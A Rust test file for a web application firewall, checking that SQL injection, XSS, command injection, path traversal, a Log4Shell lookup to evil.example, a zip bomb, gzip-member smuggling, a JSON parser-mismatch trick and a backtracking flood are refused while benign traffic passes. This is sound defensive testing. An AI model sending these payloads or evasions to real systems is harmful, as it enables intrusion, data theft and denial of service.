//! The web application firewall: attacks in arguments and bodies, prompts and queries that must pass, and what leaks in
//! answers. Holds with the OWASP Core Rule Set 3.3 and 4; without it, our own basic rules hold all but what is said to be
//! that set's alone.

use super::{Expect, Report, Run, Scenario, Wants, passes, refuses};
use crate::demo::stage::Stage;

pub const LIST: &[Scenario] = &[
    Scenario {
        name: "SQL injection in ?id",
        wants: Wants::Shared,
        run: |stage| attack(stage, "/api/v1/orders?id=1%27%20OR%20%271%27%3D%271"),
    },
    Scenario {
        name: "cross-site scripting in ?q",
        wants: Wants::Shared,
        run: |stage| attack(stage, "/api/v1/orders?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    },
    Scenario {
        name: "remote command in ?host",
        wants: Wants::Shared,
        run: |stage| attack(stage, "/api/v1/orders?host=a;%20cat%20/etc/passwd"),
    },
    Scenario {
        name: "path traversal in ?file",
        wants: Wants::Shared,
        run: |stage| attack(stage, "/api/v1/orders?file=../../etc/passwd"),
    },
    Scenario { name: "SQL injection in a JSON body", wants: Wants::Shared, run: |stage| Box::pin(json_attack(stage)) },
    Scenario { name: "scanner", wants: Wants::Shared, run: |stage| Box::pin(scanner(stage)) },
    Scenario { name: "Log4Shell in ?q", wants: Wants::Shared, run: |stage| Box::pin(log4shell(stage)) },
    Scenario {
        name: "harmless JSON body passes the firewall",
        wants: Wants::Shared,
        run: |stage| Box::pin(posts(stage, "/api/v1/orders", HARMLESS)),
    },
    Scenario {
        name: "prompt with code passes under its preset",
        wants: Wants::Shared,
        run: |stage| Box::pin(posts(stage, "/api/v1/chat", PROMPT)),
    },
    Scenario {
        name: "attack beside a prompt",
        wants: Wants::Shared,
        run: |stage| Box::pin(post_refused(stage, "/api/v1/chat", BESIDE_A_PROMPT)),
    },
    Scenario {
        name: "GraphQL query passes under its preset",
        wants: Wants::Shared,
        run: |stage| Box::pin(posts(stage, "/api/v1/graphql", QUERY)),
    },
    Scenario {
        name: "attack in a GraphQL variable",
        wants: Wants::Shared,
        run: |stage| Box::pin(post_refused(stage, "/api/v1/graphql", BAD_QUERY)),
    },
    Scenario {
        name: "invoice as its API declares it",
        wants: Wants::Shared,
        run: |stage| Box::pin(posts(stage, "/api/v1/invoices", r#"{"amount":12.5,"note":"March"}"#)),
    },
    Scenario {
        name: "invoice with a member that its API does not declare",
        wants: Wants::Shared,
        run: |stage| Box::pin(undeclared(stage, "POST", "/api/v1/invoices", r#"{"amount":12.5,"paid":true}"#)),
    },
    Scenario {
        name: "parameter beyond what the API declares",
        wants: Wants::Shared,
        run: |stage| Box::pin(undeclared(stage, "GET", "/api/v1/invoices?limit=100000", "")),
    },
    Scenario { name: "zip bomb", wants: Wants::Shared, run: |stage| Box::pin(zip_bomb(stage)) },
    Scenario { name: "adversarial value of 10 MiB", wants: Wants::Shared, run: |stage| Box::pin(adversarial(stage)) },
    Scenario {
        name: "SQL injection behind what JSON readers disagree about",
        wants: Wants::Shared,
        run: |stage| Box::pin(half_read(stage)),
    },
    Scenario {
        name: "SQL injection in the second member of a gzip body",
        wants: Wants::Shared,
        run: |stage| Box::pin(second_member(stage)),
    },
    Scenario {
        name: "database error leaks in an answer",
        wants: Wants::Shared,
        run: |stage| attack(stage, "/api/v1/leak"),
    },
];

const JSON: [(&str, &str); 1] = [("Content-Type", "application/json")];
const HARMLESS: &str = r#"{"prompt":"Please select the best of these three plans and explain why."}"#;
const PROMPT: &str = r#"{"messages":[{"role":"user","content":"Why does this fail? import os; os.system('cat /etc/passwd'); <script>alert(document.cookie)</script> SELECT * FROM users WHERE id='1' OR '1'='1'"}]}"#;
const BESIDE_A_PROMPT: &str =
    r#"{"user":"1' UNION SELECT password FROM users -- ","messages":[{"role":"user","content":"Good morning"}]}"#;
const QUERY: &str =
    r#"{"query":"query Orders { orders(first: 10) { node { id total } } }","variables":{"customer":"acme"}}"#;
const BAD_QUERY: &str = r#"{"query":"query Orders($c: String) { orders(customer: $c) { id } }","variables":{"c":"1' UNION SELECT password FROM users -- "}}"#;

fn attack<'a>(stage: &'a Stage, path: &'static str) -> Run<'a> {
    Box::pin(async move {
        let bytes = stage.good("GET", path, &[], b"");
        refuses(stage, &stage.edge(), &bytes, Expect::refused(403, "waf", "SecRule/")).await
    })
}

async fn posts(stage: &Stage, path: &str, body: &str) -> Report {
    passes(&stage.edge(), &stage.good("POST", path, &JSON, body.as_bytes()), 200).await
}

async fn post_refused(stage: &Stage, path: &str, body: &str) -> Report {
    let bytes = stage.good("POST", path, &JSON, body.as_bytes());
    refuses(stage, &stage.edge(), &bytes, Expect::refused(403, "waf", "SecRule/")).await
}

/// Harmless to look at, and still nothing that the document of the API lets through.
async fn undeclared(stage: &Stage, method: &str, path: &str, body: &str) -> Report {
    let fields: &[(&str, &str)] = if body.is_empty() { &[] } else { &JSON };
    let bytes = stage.good(method, path, fields, body.as_bytes());
    refuses(stage, &stage.edge(), &bytes, Expect::refused(400, "waf", "WafPolicy/istio-system/invoices")).await
}

async fn json_attack(stage: &Stage) -> Report {
    post_refused(stage, "/api/v1/orders", r#"{"order":{"id":"1' UNION SELECT password FROM users -- "}}"#).await
}

async fn scanner(stage: &Stage) -> Report {
    let text =
        String::from_utf8_lossy(&stage.good("GET", "/api/v1/orders", &[], b"")).replace("ringwall-demo", "sqlmap/1.8");
    refuses(stage, &stage.edge(), text.as_bytes(), Expect::refused(403, "waf", "SecRule/")).await
}

/// Only the Core Rule Set looks for this; without it the call passes, and the report says so.
async fn log4shell(stage: &Stage) -> Report {
    let path = "/api/v1/orders?q=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D";
    let current = stage.platform.world();
    let is_core = current.world.firewall.as_ref().is_some_and(|firewall| firewall.title.starts_with("OWASP_CRS"));
    if is_core {
        return attack(stage, path).await;
    }
    let mut report = passes(&stage.edge(), &stage.good("GET", path, &[], b""), 200).await;
    report.saw = format!("{}: only the Core Rule Set looks for it", report.saw);
    report
}

/// Two hundred times smaller than what it becomes; refused where it grows beyond the limit.
async fn zip_bomb(stage: &Stage) -> Report {
    let whole = format!("{{\"a\":\"{}\"}}", "a".repeat(10 << 20));
    let body = miniz_oxide::deflate::compress_to_vec_zlib(whole.as_bytes(), 6);
    let fields = [JSON[0], ("Content-Encoding", "deflate")];
    let bytes = stage.good("POST", "/api/v1/orders", &fields, &body);
    refuses(stage, &stage.edge(), &bytes, Expect::refused(413, "waf", "waf/request-too-long")).await
}

/// Python's reader takes `NaN`, and what stands behind it; ours ends there.
async fn half_read(stage: &Stage) -> Report {
    let body = br#"{"rate":NaN,"id":"1' UNION SELECT password FROM users -- "}"#;
    let bytes = stage.good("POST", "/api/v1/orders", &JSON, body);
    refuses(stage, &stage.edge(), &bytes, Expect::refused(400, "waf", "waf/request-unreadable")).await
}

/// A body of gzip may have several members (RFC 1952 section 2.2); servers read all of them.
async fn second_member(stage: &Stage) -> Report {
    let member = |text: &[u8]| {
        let head = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3];
        // Nobody here asks for its checksum and length.
        [&head[..], &miniz_oxide::deflate::compress_to_vec(text, 6), &[0; 8]].concat()
    };
    let body = [member(br#"{"note":"harmless","#), member(br#""id":"1' UNION SELECT password FROM users -- "}"#)];
    let fields = [JSON[0], ("Content-Encoding", "gzip")];
    let bytes = stage.good("POST", "/api/v1/orders", &fields, &body.concat());
    refuses(stage, &stage.edge(), &bytes, Expect::refused(403, "waf", "SecRule/")).await
}

/// What makes a backtracking engine stand still. It is judged no further than the limit.
async fn adversarial(stage: &Stage) -> Report {
    let body = format!("q={}", "((((a'/*<svg/onload".repeat((10 << 20) / 19));
    let fields = [("Content-Type", "application/x-www-form-urlencoded")];
    let bytes = stage.good("POST", "/api/v1/orders", &fields, body.as_bytes());
    refuses(stage, &stage.edge(), &bytes, Expect::refused(413, "waf", "waf/request-too-long")).await
}
